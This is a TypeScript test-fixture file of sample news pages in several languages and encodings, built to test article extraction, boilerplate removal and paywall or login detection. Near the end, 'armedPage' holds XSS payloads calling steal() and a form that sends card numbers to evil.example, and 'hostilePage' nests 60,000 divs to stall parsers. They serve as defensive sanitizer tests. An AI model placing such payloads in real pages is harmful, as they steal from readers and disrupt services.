import iconv from 'iconv-lite';

export interface ArticlePage {
  body: Buffer;
  contentType: string;
  /** The article's first and last words. */
  begins: string;
  ends: string;
  paragraphs: readonly string[];
  /** What stands on the page and is no part of the article. */
  around: string[];
  language?: string;
}

const english = [
  'The two governments exchanged the instruments of ratification on Monday, four months after their leaders had signed the treaty, and a spokesman said that it would enter into force at once.',
  'Under its fourth article each side gives the other military assistance without delay if it is attacked. Lawyers who read the text say that it leaves to each capital what it calls an attack, and how much it sends.',
  'Officials in the region called for restraint. “Nobody gains from another arms race on the peninsula,” said a diplomat who has followed the talks for a decade, and who asked not to be named because he was not allowed to speak.',
  'The ministry published neither the annexes nor a date for the first joint exercises. A second round of talks on their details is planned for the spring, according to two people who know the schedule.',
];
const russian = [
  'Стороны обменялись ратификационными грамотами в понедельник, спустя четыре месяца после подписания договора, сообщил журналистам представитель министерства.',
  'Согласно четвёртой статье, каждая из сторон незамедлительно оказывает другой военную помощь в случае нападения. Юристы отмечают, что объём помощи в тексте не определён.',
  'Дипломаты в регионе призвали к сдержанности. «Никто не выиграет от новой гонки вооружений», — сказал собеседник агентства, попросивший не называть его имени.',
  'Приложения к договору опубликованы не были. Второй раунд консультаций намечен на весну, уточнили в ведомстве.',
];
// 펲 and 똠 are not among the syllables of KS X 1001.
const korean = [
  '양국은 월요일 비준서를 교환했으며 조약은 즉시 발효됐다고 외교부 대변인이 밝혔다. 지도자들이 조약에 서명한 지 넉 달 만이다.',
  '조약 제4조는 한쪽이 공격을 받으면 다른 쪽이 지체 없이 군사적 원조를 제공하도록 규정하고 있다. 전문가들은 원조의 범위가 명확하지 않다고 지적한다.',
  '똠방각하 박사와 펲시 연구원은 다음 협의가 봄에 열릴 것이라고 내다봤다. 부속서는 공개되지 않았다.',
];
const chinese = [
  '两国外交部门星期一交换了条约批准书，条约自当日起生效。四个月前，两国领导人签署了这一条约。外交部发言人在例行记者会上证实了这一消息。',
  '条约第四条规定，缔约一方遭受武装进攻时，另一方应立即提供军事及其他援助。专家指出，条文并没有说明援助的规模和方式，为双方留下了解释的余地。',
  '地区多国呼吁保持克制。一名不愿透露姓名的外交官表示，新一轮军备竞赛不符合任何一方的利益。下一轮磋商预计将在明年春天举行。',
];
const japanese = [
  '両国は月曜日に批准書を交換し、条約は直ちに発効したと外務省の報道官が発表した。首脳が条約に署名してから四か月がたっている。',
  '条約の第四条は、一方が攻撃を受けた場合、もう一方が遅滞なく軍事援助を行うと定めている。専門家は援助の範囲がはっきりしないと指摘する。',
  '周辺国は自制を呼びかけた。次の協議は来年の春に開かれる見通しだと、関係者が記者団に語った。付属書は公表されていない。',
];

const sections = ['World', 'Politics', 'Business', 'Sport', 'Culture', 'Weather', 'Opinion', 'Obituaries'];
const menu = `<ul>${sections.map((name) => `<li><a href="/${name.toLowerCase()}">${name}</a></li>`).join('')}</ul>`;
const related = `<div class="related"><h3>More on this</h3><ul>${Array.from(
  { length: 8 },
  (_, at) => `<li><a href="/story-${at}">Another story of the day that readers also read, number ${at}</a></li>`,
).join('')}</ul></div>`;
const paragraphs = (lines: readonly string[]) => lines.map((line) => `<p>${line}</p>`).join('\n');
const endsOf = (lines: readonly string[]) => ({
  begins: (lines[0] ?? '').slice(0, 30),
  ends: (lines.at(-1) ?? '').slice(-30),
});

/** A page of a big newspaper: semantic elements, and all that sells beside the article. */
const newspaper = `<!doctype html><html lang="en-GB"><head><meta charset="utf-8"><title>Treaty in force | The Daily Wire</title>
<meta property="og:title" content="Treaty in force"><style>.nav{color:red}</style><script>window.dataLayer=[{"a":"<p>"}]</script></head>
<body><header class="site-header"><nav class="nav">${menu}</nav><form role="search"><input name="q"></form></header>
<div class="cookie-banner">We value your privacy. <button>Accept all cookies</button></div>
<main><article><h1>Treaty in force</h1><p class="byline">By A. Reporter</p><div class="share">Share on <a href="#">Facebook</a></div>
<figure><img src="/img/a.jpg" alt="Ministers"><figcaption>The ministers at the ceremony. Photograph: Agency</figcaption></figure>
<div class="article-body">${paragraphs(english)}</div></article>
<aside>${related}<div class="newsletter">Sign up to our daily newsletter <input type="email"></div></aside></main>
<section id="comments"><h2>Comments</h2><p>first!! — reader99</p></section><footer>© The Daily Wire. <a href="/terms">Terms of use</a></footer></body></html>`;

/** A blog of fifteen years ago: no semantic element, paragraphs by line breaks. */
const blog = `<html><head><title>Notes</title></head><body><div id="wrapper"><div id="sidebar-left">${menu}</div>
<div id="content"><div class="post"><h2 class="post-title">Notes on the treaty</h2><div class="post-body">${english.join('<br><br>')}</div>
<div class="post-footer">Posted by someone | <a href="#">Permalink</a> | Labels: <a href="#">treaty</a></div></div></div>
<div id="sidebar-right">${related}<div>Blog archive <a href="/2024">2024</a></div></div></div></body></html>`;

/** An agency's page set in tables. */
const tables = `<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1251"><title>Договор вступил в силу</title></head>
<body bgcolor="#fff"><table width="100%"><tr><td colspan="3"><a href="/">Главная</a> <a href="/news">Все новости</a> <a href="/about">Об агентстве</a></td></tr>
<tr><td width="150"><a href="/1">Подписка на новости</a><br><a href="/2">Архив</a></td><td><h1>Договор вступил в силу</h1>${paragraphs(russian)}</td>
<td><b>Реклама</b><br><a href="/ad">Купить квартиру</a></td></tr><tr><td colspan="3">Агентство, 2026. Все права защищены</td></tr></table></body></html>`;

/** A portal: the article in a bare div, between blocks of links. */
const portal = `<!DOCTYPE html><html lang="ko"><head><meta charset="euc-kr"><title>조약 발효</title></head><body><div id="gnb">${['정치', '경제', '사회', '문화', '스포츠'].map((name) => `<a href="#">${name}</a>`).join(' ')}</div>
<div id="container"><h3>조약 발효</h3><div id="articleBody">${korean.join('<br/><br/>')}</div><div class="reporter">홍길동 기자 <a href="#">기사목록</a></div></div>
<div id="ranking"><h4>많이 본 뉴스</h4><ul>${'<li><a href="#">오늘의 날씨와 교통</a></li>'.repeat(6)}</ul></div><div id="footer">무단전재 및 재배포 금지</div></body></html>`;

const mainland = `<!DOCTYPE html><html lang="zh-CN"><head><meta charset="gb2312"><title>条约生效</title></head><body><div class="top"><a href="#">首页</a><a href="#">新闻</a><a href="#">体育</a></div>
<div class="main"><h1>条约生效</h1><div class="source">来源：通讯社</div><div class="content">${paragraphs(chinese)}</div></div>
<div class="hot"><h2>热点排行</h2>${'<a href="#">今日股市行情综述</a>'.repeat(6)}</div><div class="foot">版权所有 未经许可不得转载</div></body></html>`;

const daily = `<!DOCTYPE html><html lang="ja"><head><meta charset="Shift_JIS"><title>条約が発効</title></head><body><ul class="menu"><li><a href="#">国際面一覧</a></li><li><a href="#">社会面一覧</a></li></ul>
<div class="article"><h1>条約が発効</h1>${paragraphs(japanese)}</div><ul class="ranking">${'<li><a href="#">人気記事ランキング</a></li>'.repeat(5)}</ul></body></html>`;

/** What HTML allows to leave out is left out. */
const terse = `<!doctype html><html lang=en><meta charset=utf-8><title>Treaty in force</title><link rel=stylesheet href=/a.css>
<nav><a href=/>Home</a> <a href=/archive>Archive</a></nav><article><h1>Treaty in force</h1>${english.map((line) => `<p>${line}`).join('\n')}</article><footer>Imprint and contact</footer>`;

/** What a builder of single-page applications serves to those without scripts. */
const application = `<!doctype html><html lang="en"><head><title>Treaty</title></head><body><div id="app"><div class="css-1x"><div class="css-2y"><a href="/">Home</a><a href="/live">Live now</a></div>
<div class="css-3z">${english.map((line) => `<div class="css-p"><span>${line}</span></div>`).join('')}</div><div class="css-4q"><a href="/a">Read next: markets</a><a href="/b">Read next: sport</a></div></div></div>
<script id="state" type="application/json">{"html":"<p>Not this</p>"}</script></body></html>`;

const of = (
  html: string,
  lines: readonly string[],
  around: string[],
  more: Partial<ArticlePage> = {},
): ArticlePage => ({
  body: Buffer.from(html),
  contentType: 'text/html; charset=utf-8',
  around,
  paragraphs: lines,
  ...endsOf(lines),
  ...more,
});

/** Pages such as publishers make, written for these tests. */
export const articlePages: Record<string, ArticlePage> = {
  'a newspaper with all that sells beside the article': of(
    newspaper,
    english,
    ['Obituaries', 'cookies', 'Another story of the day', 'newsletter', 'reader99', 'Terms of use', 'dataLayer'],
    { language: 'en-GB' },
  ),
  'a blog without a semantic element': of(blog, english, ['Weather', 'Another story of the day', 'Blog archive']),
  'Russian tables in windows-1251, named by the page alone': of(
    tables,
    russian,
    ['Все новости', 'Купить квартиру', 'права защищены'],
    { body: iconv.encode(tables, 'windows-1251'), contentType: 'text/html' },
  ),
  'Korean in EUC-KR with syllables beyond its standard': of(portal, korean, ['스포츠', '많이 본', '무단전재'], {
    body: iconv.encode(portal, 'euc-kr'),
    contentType: 'text/html; charset=iso-8859-1',
    language: 'ko',
  }),
  'Chinese that calls itself gb2312': of(mainland, chinese, ['体育', '热点排行', '版权所有'], {
    body: iconv.encode(mainland, 'gb18030'),
    contentType: 'text/html',
    language: 'zh-CN',
  }),
  'Japanese in Shift_JIS': of(daily, japanese, ['社会面一覧', 'ランキング'], {
    body: iconv.encode(daily, 'shift_jis'),
    contentType: 'text/html',
    language: 'ja',
  }),
  'a page that leaves out what HTML lets it': of(terse, english, ['Archive', 'Imprint'], { language: 'en' }),
  'an application’s divs and spans': of(application, english, ['Live now', 'Not this'], { language: 'en' }),
};

/** The article of the newspaper, in so many copies, with scripts between: megabytes. */
export function hugePage(bytes: number): ArticlePage {
  const script = `<script>var state = ${JSON.stringify('x'.repeat(2_000))}</script>`;
  const unit = paragraphs(english) + script;
  const copies = Math.ceil(bytes / unit.length);
  const html = `<!doctype html><html lang="en"><head><title>Live</title></head><body><nav>${menu}</nav><article>${unit.repeat(copies)}</article></body></html>`;
  return of(html, english, ['Obituaries', 'var state']);
}

/** Nested so deep that every step over its ancestors takes for ever. */
export const hostilePage = `<html><head><title>x</title></head><body>${'<div>'.repeat(60_000)}${paragraphs(english)}</body></html>`;

const frame = (title: string, main: string) =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>${title}</title></head><body><nav>${menu}</nav><main>${main}</main></body></html>`;

/** Pages that hold no article, by the reason. */
export const barePages: Record<string, { reason: string; html: string }> = {
  'a list of links': {
    reason: 'no-article',
    html: frame(
      'World news',
      Array.from(
        { length: 60 },
        (_, at) =>
          `<div><a href="/s${at}">The government says that it will consider the proposal, number ${at}</a></div>`,
      ).join(''),
    ),
  },
  'an empty frame for scripts': {
    reason: 'no-article',
    html: frame('News', '<div id="root"></div><noscript>Please enable JavaScript.</noscript>'),
  },
  'a form to sign in': {
    reason: 'login-wall',
    html: frame(
      'Sign in',
      '<form action="/login"><h1>Sign in</h1><p>Enter your e-mail address and your password to use your account on all our sites and apps.</p><input name="email"><input type="password" name="p"><button>Sign in</button></form>',
    ),
  },
  'the beginning, with a request to subscribe': {
    reason: 'paywall-stub',
    html: frame(
      'Treaty',
      `<article><h1>Treaty</h1><p>${english[0]}</p><p>Subscribe to continue reading.</p></article>`,
    ),
  },
  'the beginning, marked for search engines as not free': {
    reason: 'paywall-stub',
    html: frame(
      'Treaty',
      `<script type="application/ld+json">{"@type":"NewsArticle","isAccessibleForFree": "False"}</script><article><p>${english[0]}</p></article>`,
    ),
  },
  'the beginning in Russian, with a wall of another element': {
    reason: 'paywall-stub',
    html: frame(
      'Договор',
      `<article><p>${russian[0]}</p><p>${russian[1]}</p></article><div class="b-paywall">Полный текст доступен только подписчикам</div>`,
    ),
  },
  'a question whether a person reads': {
    reason: 'bot-check',
    html: frame(
      'Just a moment...',
      '<p>Checking your browser before you go on to the site. This may take a few seconds, and needs cookies to be on.</p>',
    ),
  },
};

/** What must not get through to a reader. */
export const armedPage = frame(
  'Treaty',
  `<article>${paragraphs(english.slice(0, 2))}<p onclick="steal()">Look at <a href="javascript:steal()">this</a> and <a href="../more?a=1">that</a>, says <img src="x.png" onerror="steal()"> the site about itself.</p>
  <script>steal()</script><iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="card"></form>${paragraphs(english.slice(2))}</article>`,
);
